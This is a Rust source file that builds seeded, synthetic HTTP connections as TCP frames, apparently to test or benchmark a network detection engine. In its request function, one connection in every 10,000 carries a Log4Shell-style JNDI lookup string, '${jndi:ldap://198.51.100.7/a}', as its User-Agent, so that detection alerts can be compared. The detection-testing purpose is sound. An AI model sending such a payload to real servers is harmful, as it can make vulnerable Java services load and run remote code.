//! HTTP connections as web servers see them, drawn from a seeded generator.

use std::net::{Ipv4Addr, SocketAddr};

use dataplane::decode::TcpFlags;
use dataplane::flow::Direction;
use engine::sample::{Connection, Ends};

use crate::random::Random;

/// What a connection carries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// One request of some 350 bytes and one response of some 800: 10 frames.
    HttpSmall,
    /// One request and a response of 256 KiB.
    HttpBulk,
}

/// Payload bytes of one segment: what an MTU of 1500 leaves of IPv4.
pub const SEGMENT_BYTES_MAX: usize = 1460;

const ACK: u8 = TcpFlags::ACK;
const DATA: u8 = TcpFlags::PSH | TcpFlags::ACK;
const CLOSE: u8 = TcpFlags::FIN | TcpFlags::ACK;

/// Body bytes of a bulk response.
const BULK_BYTES: usize = 256 * 1024;
/// One in so many connections carries an attack, so that alerts can be compared.
const ATTACK_EVERY: u32 = 10_000;

const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.8.0",
];
const WORDS: [&str; 16] = [
    "river", "table", "window", "garden", "paper", "silver", "market", "bridge", "letter", "winter",
    "number", "summer", "island", "doctor", "planet", "engine",
];

fn word(random: &mut Random) -> &'static str {
    WORDS[random.below(WORDS.len() as u32) as usize]
}

/// The frames of connection number `index`.
pub fn connection(kind: Kind, index: u32, random: &mut Random) -> Vec<Vec<u8>> {
    // An odd factor permutes the 24 bits of the host: addresses look random, and none comes twice.
    let host = Ipv4Addr::from(0x0a00_0000 | (index.wrapping_mul(0x9e37_79b1) & 0x00ff_ffff));
    let client = SocketAddr::from((host, 20_000 + (index % 16_384) as u16));
    let server = SocketAddr::from((Ipv4Addr::new(192, 0, 2, 1 + random.below(8) as u8), 80));
    let sequences = [random.below(u32::MAX), random.below(u32::MAX)];
    let mut connection = Connection::new(Ends::new(client, server, &[]), sequences);
    let request = request(index, random);
    let response = response(kind, random);
    let mut frames = connection.handshake();
    frames.push(connection.segment(Direction::ToServer, DATA, &request));
    frames.push(connection.segment(Direction::ToClient, ACK, b""));
    for (number, piece) in response.chunks(SEGMENT_BYTES_MAX).enumerate() {
        frames.push(connection.segment(Direction::ToClient, DATA, piece));
        // Every other segment is acknowledged (RFC 9293 §3.8.6.3).
        if number % 2 == 1 {
            frames.push(connection.segment(Direction::ToServer, ACK, b""));
        }
    }
    frames.push(connection.segment(Direction::ToServer, ACK, b""));
    frames.push(connection.segment(Direction::ToClient, CLOSE, b""));
    frames.push(connection.segment(Direction::ToServer, CLOSE, b""));
    frames.push(connection.segment(Direction::ToClient, ACK, b""));
    frames
}

/// The request of connection number `index`, of some 350 bytes.
pub fn request(index: u32, random: &mut Random) -> Vec<u8> {
    let agent = match index % ATTACK_EVERY {
        1 => "${jndi:ldap://198.51.100.7/a}",
        _ => AGENTS[random.below(AGENTS.len() as u32) as usize],
    };
    format!(
        "GET /{}/{}/{}.html?page={}&sort={} HTTP/1.1\r\nHost: www.{}.example\r\nUser-Agent: {agent}\r\n\
         Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n\
         Accept-Language: en-US,en;q=0.5\r\nReferer: https://www.{}.example/\r\n\
         Cookie: session={:08x}{:08x}\r\nConnection: close\r\n\r\n",
        word(random),
        word(random),
        word(random),
        random.below(500),
        word(random),
        word(random),
        word(random),
        random.below(u32::MAX),
        random.below(u32::MAX),
    )
    .into_bytes()
}

/// So many bytes of words, on lines.
pub(crate) fn words(bytes: usize, random: &mut Random) -> String {
    let mut words = String::new();
    while words.len() < bytes {
        words.push_str(word(random));
        words.push(if random.below(12) == 0 { '\n' } else { ' ' });
    }
    words.truncate(bytes);
    words
}

/// A response with its headers.
pub fn response(kind: Kind, random: &mut Random) -> Vec<u8> {
    let bytes = match kind {
        Kind::HttpSmall => 550 + random.below(100) as usize,
        Kind::HttpBulk => BULK_BYTES,
    };
    let title = "<!doctype html><title>";
    let words = words(bytes - title.len(), random);
    format!(
        "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Type: text/html; charset=utf-8\r\n\
         Content-Length: {bytes}\r\nLast-Modified: Tue, 04 Jun 2024 10:00:00 GMT\r\nETag: \"{:08x}\"\r\n\
         Cache-Control: max-age=60\r\nConnection: close\r\n\r\n{title}{words}",
        random.below(u32::MAX),
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn a_small_connection_has_ten_frames_and_the_sizes_that_it_promises() {
        for index in 0..200 {
            let frames = connection(Kind::HttpSmall, index, &mut Random::new(u64::from(index) + 1));
            assert_eq!(frames.len(), 10);
            assert!((300..550).contains(&(frames[3].len() - 54)), "request of {}", frames[3].len() - 54);
            assert!((750..950).contains(&(frames[5].len() - 54)), "response of {}", frames[5].len() - 54);
        }
    }

    #[test]
    fn connections_are_distinct_and_the_same_every_time() {
        let made = |index| connection(Kind::HttpSmall, index, &mut Random::new(9));
        assert_eq!(made(5), made(5));
        let ends: HashSet<Vec<u8>> = (0..20_000).map(|index| made(index)[0][26..38].to_vec()).collect();
        assert_eq!(ends.len(), 20_000);
    }
}
